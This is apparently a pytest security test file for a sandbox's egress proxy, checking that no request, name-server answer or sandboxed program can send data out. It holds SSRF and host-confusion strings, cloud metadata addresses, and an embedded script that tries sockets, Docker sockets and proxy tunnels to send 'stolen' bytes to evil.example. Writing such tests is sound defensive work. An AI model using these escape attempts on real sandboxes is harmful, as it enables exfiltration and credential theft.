"""Zero bytes of egress: what a sandbox and the reader of documentation try in vain, with traps that count what they hear."""

import asyncio
import contextlib
import json
import socket
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import pytest

from contracts.errors import PatchwrightError, SandboxUnavailable
from contracts.policy import Policy
from contracts.policy_rules import NetworkRules
from contracts.sandbox import SandboxLimits
from mcp_servers.host_gates import by_policy, nowhere
from mcp_servers.runner.bubblewrap import BubblewrapKeeper
from mcp_servers.runner.container import ContainerKeeper
from mcp_servers.runner.egress import VARIABLES, EgressProxy
from mcp_servers.runner.sandbox import Opening, SandboxKeeper
from tests.fakes.tallies import Tally
from tests.fakes.way_out import served
from tests.fakes.web import PUBLIC, Names
from tests.security.url_corpus import HOSTILE_ADDRESSES, TARGETS, in_numbers

GOOD = "good.example"
POLICY = Policy(network=NetworkRules(allowed_hosts=(GOOD, "*.files.example")))
LIMITS = SandboxLimits(memory_mib=512, processes=64)
HOSTS = (
    *(host for target in TARGETS.values() for host in in_numbers(target)), "evil.example", f"{GOOD}.evil.example", f"evil{GOOD}",
    "files.example", "*.files.example", ".files.example", "a..files.example", "-.files.example", "localhost",
    "localhost.localdomain", f"{GOOD}.", f"x@{GOOD}", f"{GOOD}:443@evil.example", f"{GOOD}#.evil.example",
    f"{GOOD}/../evil.example", f"{GOOD}%2eevil.example",
    f"{GOOD}\t", f"{GOOD}\x00.evil.example", f"{GOOD}\\.evil.example", "[::1]", "::1", "[::]", "[fe80::1%25eth0]", "0", "",
    "metadata.google.internal", "169.254.169.254.files.example.evil.example", "x" * 64 + ".files.example",
    "a." * 130 + "files.example",
)  # fmt: skip
VERBS = ("GET", "POST", "PUT", "DELETE", "HEAD", "OPTIONS", "TRACE", "PATCH", "PROPFIND", "connect", "BREW", "PRI")
PORTS = (1, 22, 25, 53, 80, 3_128, 6_379, 8_080, 65_535, 65_536, 99_999_999, "443 ", "0x1bb", "4e2", "٤٤٣", "-1", "")


class Trap:
    """Listens where nobody may get to, on TCP and UDP, and keeps what it hears."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self.port = 0

    async def _take(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.heard.append(await reader.read(1_000) or b"(a connection)")
        writer.close()

    @contextlib.asynccontextmanager
    async def set(self) -> AsyncIterator[None]:
        server = await asyncio.start_server(self._take, "127.0.0.1", 0)
        self.port = server.sockets[0].getsockname()[1]
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.bind(("127.0.0.1", self.port))
        udp.setblocking(False)
        try:
            yield
            with contextlib.suppress(BlockingIOError):
                self.heard.append(udp.recv(1_000))
        finally:
            udp.close()
            server.close()

    async def connect(self, host: str, port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """Where every connection of the proxy ends up that is made after all."""
        return await asyncio.open_connection("127.0.0.1", self.port)


async def said(door: Path, head: bytes) -> bytes:
    reader, writer = await asyncio.open_unix_connection(str(door))
    with contextlib.closing(writer), contextlib.suppress(OSError):
        writer.write(head)
        with contextlib.suppress(OSError):
            writer.write_eof()
        async with asyncio.timeout(5):
            return await reader.read()
    return b""


def heads() -> list[bytes]:
    """What a caller may say to the proxy, none of which may open a tunnel."""
    lines = [
        *(f"CONNECT {host}:443 HTTP/1.1" for host in HOSTS),
        *(f"CONNECT {GOOD}:{port} HTTP/1.1" for port in PORTS),
        *(f"{verb} {target} HTTP/1.1" for verb in VERBS
          for target in (f"{GOOD}:443", f"http://{GOOD}/", f"https://{GOOD}/", "/", "*")),
        *(f"CONNECT {GOOD}:443 {version}" for version in ("", "HTTP/2.0", "HTTP/0.9", "SMTP", "HTTP", "http/1.1")),
    ]
    whole = [line.encode("utf-8", "surrogateescape") for line in lines if line != f"CONNECT {GOOD}:443 HTTP/1.1"]
    odd = [b"\x16\x03\x01\x02\x00\x01", b"\x05\x01\x00", b"\x04\x01\x01\xbb" + bytes(4) + b"\0", b"A" * 100_000, b"\r\n" * 10_000,
           f"CONNECT {GOOD}:443 HTTP/1.1\r\n".encode() + b"X-Long: " + b"x" * 20_000, f"CONNECT {GOOD}:443 HTTP/1.1\r\n".encode()]
    return [line + b"\r\nHost: good.example:443\r\n\r\nstolen bytes" for line in whole] + odd


async def test_no_word_to_the_proxy_opens_a_way_that_the_policy_does_not(tally: Callable[[str], Tally], tmp_path: Path) -> None:
    counted, trap, names = tally("words to the egress proxy"), Trap(), Names()
    async with trap.set(), served(EgressProxy(by_policy(POLICY), names, trap.connect), tmp_path) as door:
        for head in heads():
            answer = await said(door, head)
            got_through = b" 200 " in answer.split(b"\r\n", 1)[0] or trap.heard or names.asked
            counted.case(repr(head[:80]), f"{answer[:50]!r} {trap.heard} {names.asked}" if got_through else "")
            trap.heard.clear(), names.asked.clear()
        assert b" 200 " in await said(door, f"CONNECT {GOOD}:443 HTTP/1.1\r\n\r\nfine".encode()), "an honest call passes"
    counted.settle(at_least=200)


async def test_no_answer_of_a_name_server_leads_to_this_machine(tally: Callable[[str], Tally], tmp_path: Path) -> None:
    counted = tally("answers of name servers")
    answers: list[Any] = [[[address]] for address in HOSTILE_ADDRESSES]
    answers += [[[PUBLIC, address]] for address in HOSTILE_ADDRESSES] + [[[address, PUBLIC]] for address in HOSTILE_ADDRESSES]
    answers += [[["not an address"]], [["127.0.0.1 "]], [["localhost"]], [[""]]]
    for number, lists in enumerate(answers):
        trap, names = Trap(), Names()
        names.answers[GOOD] = lists
        place = tmp_path / str(number)
        place.mkdir()
        async with trap.set(), served(EgressProxy(by_policy(POLICY), names, trap.connect), place) as door:
            answer = await said(door, f"CONNECT {GOOD}:443 HTTP/1.1\r\n\r\nstolen".encode())
        counted.case(str(lists), f"{answer[:40]!r} {trap.heard}" if trap.heard or b" 200 " in answer else "")
    counted.settle(at_least=100)


TRIES = r"""
import json, os, socket, sys
port, found = int(sys.argv[1]), {}
def tried(name, deed):
    try: found[name] = str(deed() or "done")
    except Exception as error: found[name] = ""
def tcp(address, port): socket.create_connection((address, port), 1).sendall(b"stolen")
def udp(address, port):
    s = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"stolen", (address, port))
    return "" if address.startswith("127.") else "sent"
for address in ("127.0.0.1", "10.0.2.2", "172.17.0.1", "192.168.65.2", "169.254.169.254", "93.184.216.34", "1.1.1.1",
                "::1", "fe80::1", "2606:4700:4700::1111", "0.0.0.0", "127.1.2.3"):
    for p in (port, 80, 443): tried(f"tcp {address}:{p}", lambda: tcp(address, p))
    if not address.startswith(("127.", "0.")) and address != "::1": tried(f"udp {address}", lambda: udp(address, port))
for name in ("evil.example", "stolen-bytes.evil.example", "host.docker.internal", "gateway.docker.internal",
             "metadata.google.internal"):
    tried(f"name {name}", lambda: socket.getaddrinfo(name, 443))
tried("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
tried("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
for path in ("/egress/door.sock", "/var/run/docker.sock", "/run/docker.sock", "\0door"):
    tried(f"unix {path!r}", lambda: socket.socket(socket.AF_UNIX).connect(path))
proxy = os.environ.get("HTTPS_PROXY")
for place in json.loads(sys.argv[2]) if proxy else []:
    def tunnel():
        s = socket.create_connection(("127.0.0.1", int(proxy.rsplit(":", 1)[1])), 5)
        s.sendall(f"CONNECT {place} HTTP/1.1\r\n\r\nstolen".encode())
        return "tunnel" if b" 200 " in s.recv(100) else None
    try: found[f"proxy {place}"] = tunnel() or ""
    except Exception: found[f"proxy {place}"] = ""
print(json.dumps(found))
"""


@pytest.fixture(params=[ContainerKeeper, BubblewrapKeeper])
async def keeper(request: pytest.FixtureRequest) -> SandboxKeeper:
    made: SandboxKeeper = request.param()
    try:
        await made.report()
    except SandboxUnavailable as missing:
        pytest.skip(missing.message)
    return made


@pytest.mark.parametrize("policy", [Policy(), POLICY], ids=["no host", "two hosts"])
async def test_no_program_in_a_sandbox_gets_a_byte_out(
    tally: Callable[[str], Tally], keeper: SandboxKeeper, policy: Policy
) -> None:
    counted, trap = tally("ways out of a sandbox"), Trap()
    hosts = bool(policy.network.allowed_hosts)
    names = Names(**{"trap.files.example".replace(".", "__"): [["127.0.0.1"]]})
    async with trap.set():
        places = [f"127.0.0.1:{trap.port}", f"localhost:{trap.port}", "trap.files.example:443", "evil.example:443",
                  f"{GOOD}:{trap.port}"]
        proxy = EgressProxy(by_policy(policy) if hosts else nowhere, names, trap.connect, connects=hosts)
        output: list[bytes] = []
        sandbox = await keeper.open(Opening(LIMITS, environment=dict(VARIABLES) if hosts else {}, egress=proxy))
        try:
            line = f"cat > /tmp/t.py <<'END'\n{TRIES}\nEND\npython3 /tmp/t.py {trap.port} '{json.dumps(places)}' 2>&1 | tail -1"
            await sandbox.run(line, 60, output.append)
        finally:
            await sandbox.close()
        refused, reached = await proxy.taken()
        await proxy.close()
    found = json.loads(b"".join(output))
    for name, got in found.items():
        counted.case(f"{type(keeper).__name__} {name}", got)
    counted.case("the trap", f"heard {trap.heard}" if trap.heard or reached else "")
    assert {"stolen-bytes.evil.example", "metadata.google.internal"} <= {one.place for one in refused}
    counted.settle(at_least=50)


def test_what_a_name_cannot_be_is_no_host(tally: Callable[[str], Tally]) -> None:
    counted, gate = tally("hosts for the gate of a policy"), by_policy(POLICY)
    for host in HOSTS:
        try:
            gate(host.lower(), 443)
            counted.case(host, "may be reached")
        except PatchwrightError:
            counted.case(host)
    counted.settle(at_least=len(HOSTS))


